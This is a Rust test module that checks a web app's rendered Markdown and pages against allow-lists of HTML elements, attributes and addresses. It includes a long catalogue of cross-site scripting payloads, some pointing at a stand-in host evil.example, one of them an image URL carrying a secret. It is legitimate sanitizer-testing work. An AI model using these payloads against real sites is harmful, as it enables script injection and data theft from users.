//! What a page may consist of, for tests: every tag and attribute that a browser would see is looked up in a list.
//!
//! The text is read by html5ever's tokenizer, which follows the browsers' own rules; a test that looked for strings
//! would miss what a browser finds.

use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use std::cell::RefCell;
use viva_web::markdown::external_host;

/// Elements that only the templates write.
const PAGE_ELEMENTS: &[&str] = &[
    "html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main", "aside", "footer",
    "section", "article", "h1", "form", "input", "button", "select", "option", "textarea", "label",
    "fieldset", "legend", "dl", "dt", "dd", "kbd", "time", "meter", "figure", "q", "noscript", "polyline",
    "circle",
];

/// Attributes that only the templates write; none can run anything.
const PAGE_ATTRIBUTES: &[&str] = &[
    "class",
    "id",
    "href",
    "rel",
    "src",
    "type",
    "name",
    "value",
    "content",
    "charset",
    "lang",
    "for",
    "action",
    "method",
    "role",
    "tabindex",
    "hidden",
    "checked",
    "selected",
    "required",
    "disabled",
    "autofocus",
    "readonly",
    "open",
    "rows",
    "min",
    "max",
    "maxlength",
    "placeholder",
    "autocomplete",
    "inputmode",
    "enterkeyhint",
    "formaction",
    "formnovalidate",
    "popover",
    "popovertarget",
    "popovertargetaction",
    "datetime",
    "title",
    "scope",
    "start",
    "preserveaspectratio",
    "viewbox",
    "width",
    "height",
    "x",
    "y",
    "x1",
    "x2",
    "y1",
    "y2",
    "rx",
    "ry",
    "cx",
    "cy",
    "r",
    "d",
    "dy",
    "points",
];

struct Sink<'a> {
    input: &'a str,
    is_page: bool,
    tags: RefCell<Vec<Tag>>,
}

impl TokenSink for Sink<'_> {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
                self.check(&tag);
                self.tags.borrow_mut().push(tag);
            }
            Token::CommentToken(text) => panic!("a comment `{text}` from {}", self.input),
            Token::DoctypeToken(_) => assert!(self.is_page, "a doctype from {}", self.input),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

impl Sink<'_> {
    fn check(&self, tag: &Tag) {
        let name = &*tag.name;
        let elements = crate::markdown::allowed_elements();
        let known = elements.contains(&name) || (self.is_page && PAGE_ELEMENTS.contains(&name));
        assert!(known, "<{name}> from {}", self.input);
        for attribute in &tag.attrs {
            let (key, value) = (&*attribute.name.local, &*attribute.value);
            let is_data = key.starts_with("data-") || key.starts_with("aria-");
            let known = is_data || PAGE_ATTRIBUTES.contains(&key);
            assert!(known, "`{key}` on <{name}> from {}", self.input);
            self.check_address(name, key, value);
        }
    }

    fn check_address(&self, name: &str, key: &str, value: &str) {
        if !matches!(key, "href" | "src" | "action" | "formaction") {
            return;
        }
        let is_local = (value.starts_with('/') && !value.starts_with("//") && !value.starts_with("/\\"))
            || value.starts_with('#');
        let is_remote =
            name == "a" && key == "href" && (external_host(value).is_some() || value.starts_with("mailto:"));
        let is_web =
            value.starts_with("http://") || value.starts_with("https://") || value.starts_with("mailto:");
        assert!(is_local || (is_remote && is_web), "{key}=`{value}` on <{name}> from {}", self.input);
    }
}

fn tags(html: &str, input: &str, is_page: bool) -> Vec<Tag> {
    let sink = Sink { input, is_page, tags: RefCell::new(Vec::new()) };
    let tokenizer = Tokenizer::new(sink, TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(html.into());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    tokenizer.sink.tags.into_inner()
}

/// Checks what Markdown was rendered to.
pub(crate) fn fragment(html: &str, input: &str) {
    tags(html, input, false);
}

/// Checks a page, or a piece of one.
pub(crate) fn page(html: &str, input: &str) -> Vec<Tag> {
    let tags = tags(html, input, true);
    for tag in tags.iter().filter(|tag| &*tag.name == "script") {
        assert!(
            attribute(tag, "src").is_some_and(|src| src.starts_with("/static/")),
            "an inline script from {input}"
        );
    }
    tags
}

/// The value of a tag's attribute.
pub(crate) fn attribute<'a>(tag: &'a Tag, name: &str) -> Option<&'a str> {
    tag.attrs.iter().find(|attribute| &*attribute.name.local == name).map(|attribute| &*attribute.value)
}

/// Attempts to run a script or to fetch something.
const SHAPES: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=\"background:url(http://evil.example)\">x</div>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<select><option><script>alert(1)</script></option></select>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/?d=secret)",
    "![\"onerror=alert(1)](x)",
    "[x](https://a.example \"onmouseover=alert(1)\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "![x][a]\n\n[a]: http://evil.example/",
    "[a]: javascript:alert(1)\n[a]",
    "`<script>alert(1)</script>`",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "</code></pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<img src=\"x\" onerror\n=alert(1)>",
    "<p id=turns>x</p>",
    "<form id=composer><input name=csrf>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "\u{fdd0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{202e}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a href=\"https://a.example\" onclick=alert(1)>x</a>",
    "<a href=x ping=//evil.example>x</a>",
    "<a href=x target=_blank download>x</a>",
];

/// Some hundreds of attempts to run a script: shapes times wrappings.
pub(crate) fn payloads() -> Vec<String> {
    let wrappings: [fn(&str) -> String; 5] = [
        str::to_owned,
        |text| format!("**{text}**"),
        |text| format!("> {text}\n\n{text}"),
        |text| format!("`{text}"),
        |text| format!("a\n{text}\n===\n"),
    ];
    SHAPES.iter().flat_map(|shape| wrappings.iter().map(|wrap| wrap(shape))).collect()
}

#[test]
#[should_panic(expected = "<img>")]
fn the_audit_sees_what_a_browser_sees() {
    fragment("<p>x<img/src=x/onerror=alert(1)></p>", "itself");
}

#[test]
fn there_are_some_hundreds() {
    assert!(payloads().len() > 400, "{}", payloads().len());
}
